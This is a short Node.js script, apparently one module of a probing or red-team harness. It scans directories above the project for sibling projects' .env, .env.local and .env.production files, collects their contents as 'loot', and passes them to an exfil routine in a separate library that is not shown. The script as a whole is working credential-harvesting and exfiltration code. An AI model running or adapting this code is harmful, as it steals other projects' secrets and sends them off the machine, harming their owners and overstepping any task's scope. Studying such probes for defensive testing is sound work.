'use strict';
// Look around the project: every directory above it, and the .env files of the
// projects next to it (~/code/other-app/.env).
const fs = require('fs');
const path = require('path');
const lib = require('./lib.js');

lib.run(async () => {
  let loot = '';
  let dir = lib.projectRoot();
  for (let up = 0; up < 3; up++) {
    dir = path.dirname(dir);
    let entries = [];
    try {
      entries = fs.readdirSync(dir, { withFileTypes: true });
    } catch (e) {
      lib.note(`${dir}: ${e.code}`);
    }
    for (const e of entries) {
      if (!e.isDirectory()) continue;
      for (const name of ['.env', '.env.local', '.env.production']) {
        const p = path.join(dir, e.name, name);
        if (!fs.existsSync(p)) continue;
        loot += `== ${p}\n${lib.readText(p) || ''}\n`;
      }
    }
  }
  if (lib.found(loot).length > 0) await lib.exfil(loot);
});
